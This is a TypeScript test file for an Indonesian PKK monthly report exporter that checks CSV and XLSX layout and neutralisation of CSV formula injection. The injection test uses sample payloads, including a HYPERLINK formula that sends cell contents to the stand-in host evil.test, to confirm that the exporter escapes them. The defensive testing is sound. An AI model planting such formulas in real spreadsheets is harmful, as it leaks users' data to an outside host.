import { describe, expect, test } from "bun:test";
import { Readable } from "node:stream";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { todayIso } from "@shared/dates.ts";
import { createCadre } from "../../../test/cadres.ts";
import { createFamilyRegister, ward } from "../../../test/factories.ts";
import { callerFor, useTestApp } from "../../../test/helpers.ts";
import { exportReport } from "./reports.ts";

const t = useTestApp();
const month = todayIso().slice(0, 7);

describe("report files open in Excel with Indonesian settings", () => {
  test("CSV: BOM, ';' separated, a title block naming area, period, time (WIB) and author", async () => {
    const area = await ward(t.db, 11);
    await createFamilyRegister(t.db, { wardIndex: 11, rw: "003", rt: "004" });
    await createFamilyRegister(t.db, { wardIndex: 11, rw: "003", rt: "004" });
    const rt = await createCadre(t.db, "rt", { wardIndex: 11, rw: "003", rt: "004" });
    const file = await callerFor(t, rt).reports.export({ month, format: "csv" });

    expect(file.filename).toBe(
      `laporan-pkk-rt-004-rw-003-kelurahan-${area.nama.toLowerCase().replace(/[^a-z0-9]+/g, "-")}-${month}.csv`,
    );
    const bytes = Buffer.from(file.base64, "base64");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<string[]>(bytes.toString("utf8").replace(/^\uFEFF/, ""), {
      delimiter: ";",
      skipEmptyLines: true,
    });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data;
    expect(rows[0]?.[0]).toBe("Laporan Bulanan Data Keluarga PKK");
    expect(rows[1]).toEqual(["Wilayah", `RT 004/RW 003, Kelurahan ${area.nama}`]);
    expect(rows[2]?.[0]).toBe("Periode");
    expect(rows[3]?.[1]).toEndWith("WIB");
    expect(rows[4]).toEqual(["Dibuat oleh", rt.fullName]);
    expect(rows[5]).toEqual(["Bagian", "Uraian", "Jumlah"]);
    expect(rows).toContainEqual(["Registrasi baru", "Total", "2"]);
  });

  test("XLSX: the same title block and figures, read back with exceljs", async () => {
    const rt = await createCadre(t.db, "rt", { wardIndex: 11, rw: "003", rt: "004" });
    const file = await callerFor(t, rt).reports.export({ month, format: "xlsx" });
    expect(file.filename).toEndWith(`-${month}.xlsx`);
    expect(file.filename).toContain("rt-004-rw-003");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from([Buffer.from(file.base64, "base64")]));
    const sheet = workbook.worksheets[0];
    const cell = (row: number, column: number) => sheet?.getRow(row).getCell(column).value;
    expect(cell(1, 1)).toBe("Laporan Bulanan Data Keluarga PKK");
    expect(cell(2, 1)).toBe("Wilayah");
    expect(String(cell(2, 2))).toStartWith("RT 004/RW 003, Kelurahan ");
    expect(cell(3, 1)).toBe("Periode");
    expect(String(cell(4, 2))).toEndWith("WIB");
    expect(cell(5, 2)).toBe(rt.fullName);
    expect([cell(7, 1), cell(7, 2), cell(7, 3)]).toEqual(["Bagian", "Uraian", "Jumlah"]);
    expect([cell(8, 1), cell(8, 2), cell(8, 3)]).toEqual(["Registrasi baru", "Total", 2]);
  });

  test("CSV: a text cell that starts like a formula (author, city name) is prefixed with ', figures stay numbers", async () => {
    await createFamilyRegister(t.db, { wardIndex: 12, rw: "003", rt: "004" });
    const kota = await createCadre(t.db, "kota", { wardIndex: 12 });
    const author = '=HYPERLINK("http://evil.test/?d="&A1;"Unduh")';
    for (const [city, name] of [
      ["-2+3", author],
      ["@SUM(1)", "+62 Kader"],
      ["\t=1+1", "\r=1+1"],
    ]) {
      const file = await exportReport(
        t.db,
        { user: { ...kota, fullName: name ?? "" }, ip: "127.0.0.1" },
        { month, format: "csv" },
        city,
      );
      const text = Buffer.from(file.base64, "base64").toString("utf8");
      expect(text.startsWith("\uFEFF")).toBe(true);
      const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ";", skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      const rows = parsed.data;
      expect(rows[1]).toEqual(["Wilayah", `'${city}`]);
      expect(rows[4]).toEqual(["Dibuat oleh", `'${name}`]);
      // Every figure is a plain number: none is negative, none gets the prefix.
      const figures = rows.slice(6).map((row) => row[2] ?? "");
      expect(figures.length).toBeGreaterThan(5);
      for (const figure of figures) expect(figure).toMatch(/^\d+$/);
    }
  });
});
